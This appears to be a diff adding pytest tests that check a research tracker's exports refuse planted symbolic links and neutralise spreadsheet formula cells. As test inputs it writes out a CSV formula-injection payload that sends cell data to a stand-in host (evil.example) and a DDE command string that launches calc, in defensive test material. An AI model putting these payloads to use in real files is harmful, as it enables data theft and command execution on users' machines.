@@ -406,3 +406,59 @@ def test_a_signed_message_replayed_under_a_new_delivery_id_fails_verification(ar
 def test_embedded_private_addresses_and_unresolvable_names_are_refused(archive, url):
     with pytest.raises(alerts.AddressError, match="refused"):
         alerts.subscribe(archive, STRICT, url)
+
+
+# -- 8. exports refuse symbolic links and neutralise formula cells -----------------------------------------------------
+
+
+def _export_home(tmp_path: Path, title: str) -> Path:
+    home = tmp_path / "home"
+    with Archive(home) as archive:
+        add_event(archive, title=title)
+    return home
+
+
+def test_exports_never_write_through_a_planted_symlink(tmp_path):
+    from tracker.research import ExportError, export
+    from tracker.research.warc import WarcExportError, export_warc
+
+    home = _export_home(tmp_path, "A plan")
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "documents.csv.part").symlink_to(victim)
+    with Archive(home) as archive:
+        with pytest.raises(ExportError, match="symbolic link"):
+            export(archive, out, "csv", datasets=["documents"])
+        (out / "documents.csv.part").unlink()
+        (out / "documents.csv").symlink_to(victim)
+        with pytest.raises(ExportError, match="symbolic link"):
+            export(archive, out, "csv", datasets=["documents"])
+        (out / "w.warc.gz.part").symlink_to(victim)
+        with pytest.raises(WarcExportError, match="symbolic link"):
+            export_warc(archive, out / "w.warc.gz")
+        (out / "documents.csv").unlink()
+        assert export(archive, out, "csv", datasets=["documents"]) == {"documents": 1}  # a clean folder works
+    assert victim.read_text() == "precious"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    import csv
+
+    from tracker.research import export
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    home = _export_home(tmp_path, formula)
+    out = tmp_path / "out"
+    with Archive(home) as archive:
+        export(archive, out, "csv", datasets=["documents"])
+        export(archive, out, "json", datasets=["documents"])
+    [row] = list(csv.DictReader((out / "documents.csv").open(encoding="utf-8")))
+    assert row["title"] == "'" + formula
+    assert json.loads((out / "documents.json").read_text())[0]["title"] == formula  # JSON keeps the data as it is
+    from tracker.research.export import _cell
+
+    for start in "=+-@":
+        assert _cell(f"{start}cmd|' /C calc'!A0").startswith("'")
+    assert _cell(-5) == -5 and _cell("plain") == "plain"
